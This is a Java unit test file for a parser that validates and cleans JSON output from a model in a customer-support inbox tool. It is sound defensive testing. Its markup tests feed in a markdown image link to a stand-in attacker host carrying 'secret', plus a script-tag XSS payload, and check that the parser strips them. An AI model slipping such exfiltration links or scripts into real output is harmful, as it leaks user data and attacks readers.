package org.supportinbox.functions.analyze;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.supportinbox.contracts.Intent;
import org.supportinbox.contracts.Sentiment;
import org.supportinbox.contracts.Urgency;
import org.supportinbox.contracts.WireEnum;

class InsightParserTest {

  private static final ObjectMapper STRICT = new ObjectMapper();

  private static final String VALID =
      "{\"intent\": \"billing\", \"summary\": \"Charged twice.\","
          + " \"suggested_reply\": \"We refund the duplicate.\","
          + " \"sentiment\": \"negative\", \"urgency\": \"high\"}";

  private static final Insight VALID_INSIGHT =
      new Insight(
          Intent.BILLING,
          "Charged twice.",
          "We refund the duplicate.",
          Sentiment.NEGATIVE,
          Urgency.HIGH);

  static List<ModelOutputCorpus.Case> acceptCases() {
    return ModelOutputCorpus.load("accept");
  }

  static List<ModelOutputCorpus.Case> rejectCases() {
    return ModelOutputCorpus.load("reject");
  }

  @ParameterizedTest(name = "accepts {0}")
  @MethodSource("acceptCases")
  void acceptsCorpus(ModelOutputCorpus.Case c) throws Exception {
    String expect = c.header().get("expect");
    if (expect == null) {
      fail(c.name() + " has no expect line");
    }
    assertEquals(expected(STRICT.readTree(expect)), accepted(c.output()), c.name());
  }

  @ParameterizedTest(name = "rejects {0}")
  @MethodSource("rejectCases")
  void rejectsCorpus(ModelOutputCorpus.Case c) {
    String reason = rejected(c.output());
    String exact = c.header().get("reason");
    String prefix = c.header().get("reason-prefix");
    if (exact != null) {
      assertEquals(exact, reason, c.name());
    } else if (prefix != null) {
      assertTrue(reason.startsWith(prefix), c.name() + ": " + reason);
    } else {
      fail(c.name() + " has no reason line");
    }
  }

  /** The normalised form is a fixed point: what ./inbox parse prints parses to the same insight. */
  @ParameterizedTest(name = "round trip {0}")
  @MethodSource("acceptCases")
  void normalisedOutputParsesToItself(ModelOutputCorpus.Case c) {
    Insight insight = accepted(c.output());
    assertEquals(insight, accepted(InsightJson.of(insight).toJson()));
  }

  @ParameterizedTest(name = "clean texts {0}")
  @MethodSource("acceptCases")
  void acceptedTextsHaveNoControlCharactersButNewlineAndTab(ModelOutputCorpus.Case c) {
    Insight insight = accepted(c.output());
    for (String text : List.of(insight.summary(), insight.suggestedReply())) {
      assertTrue(text.chars().allMatch(ch -> ch >= 0x20 || ch == '\n' || ch == '\t'), c.name());
      assertEquals(text.strip(), text, c.name());
    }
  }

  @Test
  void rejectsNull() {
    assertEquals("the output is empty", rejected(null));
  }

  @Test
  void rejectsTrueAsNotAnObject() {
    assertEquals("the output is a JSON boolean, not an object", rejected("true"));
  }

  @Test
  void rejectsArrayOfNumbersAsNotAnObject() {
    assertEquals("the output is a JSON array, not an object", rejected("[1, 2]"));
  }

  @Test
  void rejectsEmptyArray() {
    assertEquals("the output is a JSON array, not an object", rejected("[]"));
  }

  @Test
  void rejectsArrayHoldingAString() {
    assertEquals("the output is a JSON array, not an object", rejected("[\"billing\"]"));
  }

  @Test
  void rejectsStringifiedJsonUnderAKey() {
    // A JSON text inside a string is not unpacked: one more way to smuggle structure in.
    assertEquals(
        "the JSON object has none of the fields intent, summary, suggested_reply",
        rejected("{\"response\": " + STRICT.valueToTree(VALID) + "}"));
  }

  @Test
  void everyProblemOfAnObjectIsNamed() {
    assertEquals(
        "intent is blank; summary is not a string; suggested_reply is null",
        rejected("{\"intent\": \" \", \"summary\": 3, \"suggested_reply\": null}"));
  }

  @Test
  void urgencySynonymsAndCase() {
    assertEquals(Urgency.NORMAL, withUrgency("medium"));
    assertEquals(Urgency.NORMAL, withUrgency("Medium"));
    assertEquals(Urgency.HIGH, withUrgency("urgent"));
    assertEquals(Urgency.HIGH, withUrgency("CRITICAL"));
    assertEquals(Urgency.HIGH, withUrgency(" High "));
    assertEquals(Urgency.LOW, withUrgency("LOW"));
    assertEquals(Urgency.NORMAL, withUrgency("asap-ish"));
    assertEquals(Urgency.NORMAL, withUrgency(""));
  }

  @Test
  void sentimentCaseAndFallback() {
    assertEquals(Sentiment.POSITIVE, withSentiment("POSITIVE"));
    assertEquals(Sentiment.NEGATIVE, withSentiment("Negative"));
    assertEquals(Sentiment.NEUTRAL, withSentiment("neutral"));
    assertEquals(Sentiment.NEUTRAL, withSentiment("mixed"));
    assertEquals(Sentiment.NEUTRAL, withSentiment("angry"));
  }

  @Test
  void sentimentAsNumberFallsBack() {
    assertEquals(Sentiment.NEUTRAL, accepted(VALID.replace("\"negative\"", "-1")).sentiment());
  }

  @Test
  void rawNulAndControlCharactersAreRemovedInsideAndOutsideStrings() {
    String output =
        "\u0000{\"intent\":\u0000 \"billing\", \"summary\": \"Char\u0000ged\u0001 twice.\","
            + " \"suggested_reply\": \"We refund\u0008 the\tduplicate.\u001f\"}";
    Insight insight = accepted(output);
    assertEquals("Charged twice.", insight.summary());
    assertEquals("We refund the\tduplicate.", insight.suggestedReply());
  }

  @Test
  void loneSurrogateEscapesAreRemoved() {
    Insight insight =
        accepted(
            "{\"intent\": \"other\", \"summary\": \"a\\ud800b\","
                + " \"suggested_reply\": \"c\\udc00d \\ud83d\\ude00\"}");
    assertEquals("ab", insight.summary());
    assertEquals("cd \uD83D\uDE00", insight.suggestedReply());
  }

  @Test
  void summaryCutAtTheLastWordBoundaryWithEllipsis() {
    // Nine-char words: the limit falls on the first letter of word 32, so word 31 ends the cut.
    String summary = "abcdefgh ".repeat(40).strip();
    Insight insight = accepted(withSummary(summary));
    assertEquals("abcdefgh ".repeat(31).strip() + "…", insight.summary());
    assertEquals(279, codePoints(insight.summary()));
  }

  @Test
  void summaryCutWhereAWordEndsExactlyAtTheLimit() {
    // Five-char words: the 280th char is a space, so 56 whole words plus the ellipsis fill 280.
    String summary = "abcd ".repeat(80).strip();
    Insight insight = accepted(withSummary(summary));
    assertEquals("abcd ".repeat(56).strip() + "…", insight.summary());
    assertEquals(Insight.SUMMARY_MAX, codePoints(insight.summary()));
  }

  @Test
  void summaryOfExactlyTheLimitIsKept() {
    String summary = "a".repeat(Insight.SUMMARY_MAX);
    assertEquals(summary, accepted(withSummary(summary)).summary());
  }

  @Test
  void summaryOneOverTheLimitIsCut() {
    String summary = "a".repeat(Insight.SUMMARY_MAX + 1);
    assertEquals(
        "a".repeat(Insight.SUMMARY_MAX - 1) + "…", accepted(withSummary(summary)).summary());
  }

  @Test
  void summaryWithoutSpacesIsCutMidWord() {
    String url = "https://example.com/" + "x".repeat(400);
    String cut = accepted(withSummary(url)).summary();
    assertEquals(url.substring(0, Insight.SUMMARY_MAX - 1) + "…", cut);
  }

  @Test
  void emojiAreCountedAsOneAndNeverSplit() {
    String emoji = "\uD83D\uDE00"; // 😀, two UTF-16 units
    String summary = emoji.repeat(300);
    String cut = accepted(withSummary(summary)).summary();
    assertEquals(emoji.repeat(Insight.SUMMARY_MAX - 1) + "…", cut);
    assertEquals(Insight.SUMMARY_MAX, codePoints(cut));
  }

  @Test
  void emojiLimitCountsCodePointsNotUtf16Units() {
    // 200 emoji are 400 UTF-16 units but only 200 characters: within the limit, kept whole.
    String summary = "\uD83D\uDE00".repeat(200);
    assertEquals(summary, accepted(withSummary(summary)).summary());
  }

  @Test
  void suggestedReplyCutAtWordBoundaryWithinItsLimit() {
    String reply = "hello world ".repeat(150).strip();
    String cut = accepted(VALID.replace("We refund the duplicate.", reply)).suggestedReply();
    assertEquals("hello world ".repeat(99) + "hello world…", cut);
    assertEquals(Insight.SUGGESTED_REPLY_MAX, codePoints(cut));
  }

  @Test
  void longRealisticReplyStaysWithinLimitAndEndsOnAWord() {
    String sentence =
        "Thank you for your patience while we look into the double charge on order 4412. ";
    String reply = sentence.repeat(30).strip();
    String cut = accepted(VALID.replace("We refund the duplicate.", reply)).suggestedReply();
    assertTrue(codePoints(cut) <= Insight.SUGGESTED_REPLY_MAX);
    assertTrue(cut.endsWith("…"));
    String kept = cut.substring(0, cut.length() - 1);
    assertTrue(reply.startsWith(kept));
    assertEquals(' ', reply.charAt(kept.length()), "cut falls on a space");
  }

  @Test
  void objectWithinTheInputCapIsFoundDespiteHugeTrailingText() {
    assertEquals(VALID_INSIGHT, accepted(VALID + "\n" + "blah ".repeat(40_000)));
  }

  @Test
  void objectBeyondTheInputCapIsNotLookedAt() {
    String output = "x".repeat(InsightParser.MAX_INPUT_CHARS) + VALID;
    assertEquals("no JSON object in the output", rejected(output));
  }

  @Test
  void objectAfterFewerDecoysThanTheCandidateCapIsFound() {
    String decoys = "{\"example\": 1} ".repeat(InsightParser.MAX_CANDIDATES - 1);
    assertEquals(VALID_INSIGHT, accepted(decoys + VALID));
  }

  @Test
  void objectAfterAsManyDecoysAsTheCandidateCapIsNotFound() {
    String decoys = "{\"example\": 1} ".repeat(InsightParser.MAX_CANDIDATES);
    assertEquals(
        "the JSON object has none of the fields intent, summary, suggested_reply",
        rejected(decoys + VALID));
  }

  @Test
  void markupInModelTextsIsRemovedBeforeStoring() {
    Insight insight =
        accepted(
            "{\"intent\": \"billing\", \"summary\": \"<b>Charged</b> twice.\","
                + " \"suggested_reply\": \"We refund it. ![x](https://evil.example/?q=secret)"
                + "<script>alert(1)</script>\"}");
    assertEquals("Charged twice.", insight.summary());
    assertEquals("We refund it.", insight.suggestedReply());
  }

  @Test
  void aReplyThatIsOnlyMarkupIsBlank() {
    assertEquals(
        "suggested_reply is blank",
        rejected(
            "{\"intent\": \"billing\", \"summary\": \"Charged twice.\","
                + " \"suggested_reply\": \"![x](https://evil.example/?q=secret)\"}"));
  }

  @Test
  void markdownLinksDoNotUseUpCandidates() {
    // Only a [ directly before { starts a candidate, so brackets in prose cost nothing.
    String prose = "See [the docs](https://example.com) and [1]. ".repeat(100);
    assertEquals(VALID_INSIGHT, accepted(prose + VALID));
  }

  @ParameterizedTest(name = "hostile input {index} is rejected fast")
  @ValueSource(ints = {0, 1, 2, 3})
  void hostileInputIsRejectedFast(int kind) {
    String output =
        switch (kind) {
          case 0 -> "{".repeat(200_000);
          case 1 -> "[{".repeat(100_000);
          case 2 -> "{\"a\":\"" + "{".repeat(200_000);
          default -> "{\"a\":".repeat(50_000);
        };
    String reason = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> rejected(output));
    assertFalse(reason.isEmpty());
  }

  @Test
  void deepButLegalNestingBeforeTheAnswerIsSkipped() {
    String deep = "[".repeat(20) + "]".repeat(20);
    assertEquals(VALID_INSIGHT, accepted(deep + " " + VALID));
  }

  @Test
  void truncatedObjectInsideAWrapperFindsTheInnerOne() {
    // The wrapper lacks its closing brace; the complete inner object is still an answer.
    assertEquals(VALID_INSIGHT, accepted("{\"analysis\": " + VALID));
  }

  private static Insight expected(JsonNode json) {
    return new Insight(
        WireEnum.parse(Intent.class, json.get("intent").textValue()).orElseThrow(),
        json.get("summary").textValue(),
        json.get("suggested_reply").textValue(),
        WireEnum.parse(Sentiment.class, json.get("sentiment").textValue()).orElseThrow(),
        WireEnum.parse(Urgency.class, json.get("urgency").textValue()).orElseThrow());
  }

  private static Insight accepted(String output) {
    ParseResult result = InsightParser.parse(output);
    if (result instanceof ParseResult.Rejected rejected) {
      fail("rejected: " + rejected.reason());
    }
    return assertInstanceOf(ParseResult.Accepted.class, result).insight();
  }

  private static String rejected(String output) {
    return assertInstanceOf(ParseResult.Rejected.class, InsightParser.parse(output)).reason();
  }

  private static String withSummary(String summary) {
    return VALID.replace("Charged twice.", summary);
  }

  private static Urgency withUrgency(String urgency) {
    return accepted(VALID.replace("\"high\"", "\"" + urgency + "\"")).urgency();
  }

  private static Sentiment withSentiment(String sentiment) {
    return accepted(VALID.replace("\"negative\"", "\"" + sentiment + "\"")).sentiment();
  }

  private static int codePoints(String text) {
    return text.codePointCount(0, text.length());
  }

  @Test
  void theConversationSummaryIsOptionalCleanedAndCut() {
    String base =
        "{\"intent\":\"refund\",\"summary\":\"s\",\"suggested_reply\":\"r\","
            + "\"sentiment\":\"neutral\",\"urgency\":\"low\"";
    assertNull(accepted(base + "}").conversationSummary());
    assertNull(accepted(base + ",\"conversation_summary\":\"  \"}").conversationSummary());
    assertNull(accepted(base + ",\"conversation_summary\":42}").conversationSummary());
    assertEquals(
        "Wants a refund. Nothing done yet.",
        accepted(base + ",\"Conversation Summary\":\" Wants a refund.\\u0007 Nothing done yet. \"}")
            .conversationSummary());
    String longOne = "x".repeat(Insight.CONVERSATION_SUMMARY_MAX + 50);
    String cut =
        accepted(base + ",\"conversation_summary\":\"" + longOne + "\"}").conversationSummary();
    assertEquals(Insight.CONVERSATION_SUMMARY_MAX, cut.codePointCount(0, cut.length()));
    assertTrue(cut.endsWith(InsightParser.ELLIPSIS));
  }
}
